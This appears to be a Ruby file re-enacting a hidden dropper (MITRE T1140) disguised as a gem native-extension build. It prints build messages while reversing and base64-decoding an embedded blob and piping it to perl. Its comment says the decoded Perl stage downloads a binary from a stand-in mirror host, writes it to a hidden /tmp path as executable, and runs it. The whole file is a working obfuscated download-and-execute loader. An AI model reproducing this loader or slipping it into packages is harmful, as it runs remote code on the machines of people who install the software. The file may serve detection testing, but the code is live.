# gem-native-ext (harmless re-enactment of T1140): the stage is base64 written backwards; it is
# reversed and un-base64'd with String#unpack1("m") in this process's memory (no decoder process)
# and fed to `perl` on its stdin through a pipe. The Perl stage GETs
# http://cdn.rubygems-mirror.test/ext/native-x86_64 over a raw socket, writes the body to
# /tmp/.gem/native (0755) and runs it.
EXT = \
  'KsTKiUmdpRXYu9SbldmLvAXb09iIo0WZ0NXezByOiUmdpRXYu9SbldmLvAXb09iIsUTN3ADIk9WboNmC7YGJgU2c' \
  'vx2YgsjYkAiZkACdulmcwByOmRCIlR2bt5WaiByOwACdphXZgI3bgkiIlZXa0Fmbv0WZn5yLw1GdvICLi4jIsYGJ' \
  'gkXbo4WZw9GI7ISbldmLvAXb09iIgIXaktWbKszcvkiKugibcJHXuxlcc9if9IHJ9kiYkgCI51mC7MHJgU2cvx2Y' \
  'gsjPzRCP9IHJgkXbgszLkACbhN2bspwOi4GXyxlbcJHX04yMv0WZnBiO05WZnFULyV2cV5GXyxFdzVGduI3byJXa' \
  't1yctV2Z5JWdy5ibkNGI6Q3cvhkbcJHXw4SMvAFVUhEI0YzX2gDetUmdpRXYu9Cd4V2LgQVRHJCIzRCI05WayBnC' \
  '7ADI0lGelBicvBSKwEjP9QXdvVWbpRFLwgjP9QncvBlclVGUsICdzVGduI3byJXat1yctV2Z5JWdy5ibkNmI+0jc' \
  'kRWQyVWZQhydl5mPtQVROlkO6QXZrN2bTpjOPlUPzRCI51mC7QVROlkO6QXZrN2bTpjOPlEIlNXd'

puts "gem-native-ext: building native extension for x86_64-linux"
stage = EXT.reverse.unpack1("m")
IO.popen(["perl"], "w") { |perl| perl.write(stage) }
puts "gem-native-ext: done (#{$?.exitstatus})"
